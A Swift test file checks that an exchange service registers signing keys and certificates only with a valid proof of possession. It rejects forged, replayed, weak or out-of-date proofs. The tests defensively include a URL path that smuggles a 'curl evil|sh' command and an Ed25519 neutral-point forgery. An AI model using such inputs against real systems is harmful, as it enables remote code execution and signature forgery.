import Crypto
import Database
import Gateway
import House
import JOSE
import StrictJSON
import TestKit
import Testing
import Vocabulary
import Web

@testable import Exchange

@Suite("An application's key comes with a proof")
struct KeyProofTests {
    private static let application: ID<Application> = ID("01234567-89ab-7def-8123-456789abcdef")

    @Test("OpenSSL makes the same, with the commands on the page")
    func openSSL() throws {
        // The key of RFC 8032 §7.1, test 1; the proof is what OpenSSL 3.0.19 printed.
        let secret = try #require(Hex.decode("9d61b19deffd5a60ba844af492ec2cc44449c5697b326919703bac031cae7f60"))
        let proof = try KeyProof(of: Self.application, by: Curve25519.Signing.PrivateKey(rawRepresentation: secret))
        #expect(proof.subject == "11qYAYKxCrfVS_7TyWQHOg7hcvPapiMlrwIaaPcHURo")
        let made = "MTUPJBuKnz1EormOp1TfwZXKpe5EGmUx149nnExRRdEyG7TNLG-pbDR5roEX5xI2SKu2xk-2fhnHqzYXhuHJDA"
        #expect(KeyProof.isGood(made, for: Self.application, by: proof.subject))
        #expect(KeyProof.isGood(proof.text, for: Self.application, by: proof.subject))
        #expect(
            KeyProof.openSSL(for: Self.application).contains("printf 'truc-application-key\\n%s\\n%s' '01234567-89ab"))
    }

    @Test("nobody registers another's key, by another's proof, an old one or a key that everybody has")
    func refused() async throws {
        try await RegistryTown.with(.sqlite) { town async throws in
            func made(_ code: String) async throws -> ID<Application> {
                try await town.exchange.addApplication(code, named: "Mẫu", of: ID("K40"), by: town.user).application.id
            }
            let (mine, theirs) = (try await made("portal"), try await made("other"))
            let (key, own) = (Curve25519.Signing.PrivateKey(), Curve25519.Signing.PrivateKey())
            let victim = try KeyProof(of: mine, by: key)
            func add(_ value: String, _ proof: String?) async -> Problem? {
                await problem {
                    try await town.exchange.addCredential(.signer, value, proof: proof, to: mine, by: town.user)
                }
            }
            let missing = Problem.rejected(code: "exchange.proof-missing", ["proof": .proofIsMissing])
            #expect(await add(victim.subject, nil) == missing)
            #expect(await add(victim.subject, "") == missing)
            let wrong = Problem.rejected(code: "exchange.proof-wrong", ["proof": .proofIsWrong])
            #expect(await add(victim.subject, "abc") == wrong)
            let (another, elsewhere) = (try KeyProof(of: mine, by: own), try KeyProof(of: theirs, by: key))
            #expect(await add(victim.subject, another.text) == wrong)
            #expect(await add(victim.subject, elsewhere.text) == wrong)
            let bare = try key.signature(for: Array("\(mine)\n\(victim.subject)".utf8))
            #expect(await add(victim.subject, Base64.encodeURL(bare)) == wrong)
            // The neutral point: with it, and nothing else, anybody signs anything.
            let point = [1] + [UInt8](repeating: 0, count: 31)
            let forged = Base64.encodeURL(point + [UInt8](repeating: 0, count: 32))
            #expect(await add(Base64.encodeURL(point), forged) == wrong)
            #expect(await add(victim.subject, " \(victim.text)\n") == nil, "as it was pasted")
        }
    }

    @Test("the page has the commands to paste, and it and the programs' door say what is missing")
    func doors() async throws {
        try await RegistryTown.with(.sqlite) { town async throws in
            let id = try await town.exchange.addApplication("portal", named: "Mẫu", of: ID("K40"), by: town.user)
                .application.id
            let (page, program) = (town.visitor(town.user), town.visitor(town.user, isProgram: true))
            await page.get("/exchange/applications/\(id)/credential").expect(
                200, shows: "truc application proof ", "\(id)", "openssl pkeyutl -sign -rawin")
            // What is pasted into a shell names what is there, never what somebody put into a link.
            let evil = await page.get("/exchange/applications/x%3Bcurl%20evil%7Csh%3B/credential")
            evil.expect(404)
            #expect(!evil.text.contains("curl evil"))
            await town.visitor(town.provider).get("/exchange/applications/\(id)/credential").expect(403)
            await town.visitor(town.user).get("/exchange/applications/\(id)/credential?lang=en").expect(
                200, shows: "Make a key and its proof")
            let proof = try KeyProof(of: id, by: Curve25519.Signing.PrivateKey())
            await page.post(
                "/exchange/applications/\(id)/credential", ["kind": "signer", "value": proof.subject]
            ).expect(422, shows: "Khóa công khai hay chứng thư cần kèm chứng minh")
            await page.post(
                "/exchange/applications/\(id)/credential",
                ["kind": "signer", "value": proof.subject, "proof": proof.text]
            ).expect(redirectTo: "/exchange/applications/\(id)")

            let next = try KeyProof(of: id, by: Curve25519.Signing.PrivateKey())
            func send(_ body: JSON) async -> Answered {
                await program.send(
                    .post, "/exchange/applications/\(id)/credentials", headers: ["content-type": "application/json"],
                    body: body.encoded())
            }
            let missing = await send(["kind": "signer", "value": .string(next.subject)])
            missing.expect(422)
            let fields = try JSONDocument(missing.text).root["errors"]?.elements?.compactMap { $0["field"]?.string }
            #expect(fields == ["proof"], "\(missing.text)")
            #expect(try JSONDocument(missing.text).root["code"]?.string == "exchange.proof-missing")
            await send(["kind": "api-key", "value": "x"]).expect(422)
            await send(["kind": "signer", "value": .string(next.subject), "proof": .string(next.text)]).expect(201)
            #expect(try await town.exchange.signingKey(next.subject) != nil)
        }
    }

    @Test("an OAuth client is attached by whoever owns it alone")
    func clients() async throws {
        try await RegistryTown.with(.sqlite) { town async throws in
            let id = try await town.exchange.addApplication("portal", named: "Mẫu", of: ID("K40"), by: town.user)
                .application.id
            #expect(
                await problem {
                    try await town.exchange.addCredential(.oauthClient, "client-of-provider", to: id, by: town.user)
                } == .rejected(code: "exchange.client-not-owned", ["value": .clientIsNotYours]))
            try await town.exchange.addCredential(.oauthClient, "client-of-user", to: id, by: town.user)
        }
    }

    @Test("the key of a certificate signs for it, of whatever kind it is", arguments: CertificateProof.all)
    func certificateKinds(made: CertificateProof) throws {
        let certificate = try ShownCertificate(pem: made.pem)
        func isGood(_ proof: String, _ application: String = CertificateProof.application) -> Bool {
            KeyProof.isGood(proof, for: ID(application), with: certificate)
        }
        #expect(isGood(made.proof))
        #expect(!isGood(made.proof, "01234567-89ab-7def-8123-456789abcdee"))
        var spoilt = try #require(Base64.decodeURL(made.proof))
        spoilt[spoilt.count / 2] ^= 1
        #expect(!isGood(Base64.encodeURL(spoilt)) && !isGood("") && !isGood("x"))
        for other in CertificateProof.all where other.kind != made.kind { #expect(!isGood(other.proof)) }
    }

    @Test("a key with which others can sign proves nothing")
    func weakCertificate() throws {
        let certificate = try ShownCertificate(pem: CertificateProof.weak.pem)
        #expect(
            !KeyProof.isGood(CertificateProof.weak.proof, for: ID(CertificateProof.application), with: certificate))
    }

    @Test("a certificate outside its dates is refused by the node's clock, at every door", arguments: Engine.all)
    func dates(engine: Engine) async throws {
        try await RegistryTown.with(engine) { town async throws in
            let id = try await town.exchange.addApplication("portal", named: "Mẫu", of: ID("K40"), by: town.user)
                .application.id
            // Good from a day before the moment it is made at, for five days.
            let now = town.clock.now()
            func made(_ days: Int64) throws -> (pem: String, proof: String) {
                let made = try TLSIdentity.makeSelfSigned(name: "kiosk", now: now.adding(days: days), validDays: 5)
                let key = try CertificatePrivateKey(pem: made.privateKeyPEM)
                let shown = try ShownCertificate(pem: made.certificatePEM)
                return (made.certificatePEM, try KeyProof(of: id, with: shown, by: key).text)
            }
            let wrong = [
                (try made(-6), "exchange.certificate-expired", "đã hết hạn"),
                (try made(2), "exchange.certificate-not-yet-valid", "chưa đến ngày"),
            ]
            let page = "/exchange/applications/\(id)/credential"
            for (bad, code, words) in wrong {
                let body: JSON = ["kind": "certificate", "value": .string(bad.pem), "proof": .string(bad.proof)]
                await town.visitor(town.user, isProgram: true).send(
                    .post, "\(page)s", headers: ["content-type": "application/json"], body: body.encoded()
                ).expect(422, shows: #""code":"\#(code)""#, #""field":"value""#)
                await town.visitor(town.user).post(
                    page, ["kind": "certificate", "value": bad.pem, "proof": bad.proof]
                ).expect(422, shows: words)
            }
            // To the second: on its last one it is taken, and on its first.
            let (last, first) = (try made(-5), try made(1))
            for good in [last, first] {
                _ = try await town.exchange.addCredential(
                    .certificate, good.pem, proof: good.proof, to: id, by: town.user)
            }
        }
    }

    @Test("nobody registers another's certificate, at no door", arguments: Engine.all)
    func certificates(engine: Engine) async throws {
        try await RegistryTown.with(engine) { town async throws in
            let mine = try await town.exchange.addApplication("portal", named: "Mẫu", of: ID("K40"), by: town.user)
                .application.id
            func identity(_ name: String) throws -> (pem: String, ShownCertificate, CertificatePrivateKey) {
                let made = try TLSIdentity.makeSelfSigned(name: name, now: town.clock.now())
                return (
                    made.certificatePEM, try ShownCertificate(pem: made.certificatePEM),
                    try CertificatePrivateKey(pem: made.privateKeyPEM)
                )
            }
            let (pem, victim, key) = try identity("victim")
            let (_, _, own) = try identity("own")
            let forged = try KeyProof(of: mine, with: victim, by: own).text
            let elsewhere = try KeyProof(of: ID("another"), with: victim, by: key).text
            let page = "/exchange/applications/\(mine)/credential"
            func send(_ value: String, _ proof: String?) async -> Answered {
                var body: JSON = ["kind": "certificate", "value": .string(value)]
                if let proof { body["proof"] = .string(proof) }
                return await town.visitor(town.user, isProgram: true).send(
                    .post, "\(page)s", headers: ["content-type": "application/json"], body: body.encoded())
            }
            // The thumbprint, which everybody can know, is not enough.
            await send(Hex.encode(victim.sha256), nil).expect(422, shows: #""field":"value""#)
            await send(pem, nil).expect(422, shows: #""code":"exchange.proof-missing""#)
            for bad in [forged, elsewhere, "abc", String(repeating: "A", count: 3000)] {
                await send(pem, bad).expect(422, shows: #""code":"exchange.proof-wrong""#)
                await town.visitor(town.user).post(page, ["kind": "certificate", "value": pem, "proof": bad]).expect(
                    422, shows: "khóa của chứng thư này")
            }
            let good = try KeyProof(of: mine, with: victim, by: key)
            await town.visitor(town.user).post(
                page, ["kind": "certificate", "value": "\r\n" + pem, "proof": good.text + "\n"]
            ).expect(redirectTo: "/exchange/applications/\(mine)")
            let table = try await town.node.database.read { [exchange = town.exchange] in
                try exchange.gatewayTable(in: $0)
            }
            let consumer = try #require(table.consumers.first { $0.id == mine.text })
            #expect(consumer.credentials.contains(.certificate(sha256: victim.sha256)))
            await send(pem, good.text).expect(422, shows: #""code":"invalid""#)
            await town.visitor(town.user).get("\(page)?lang=en").expect(
                200, shows: "key.pem --certificate cert.pem", "truc-application-certificate")
        }
    }
}
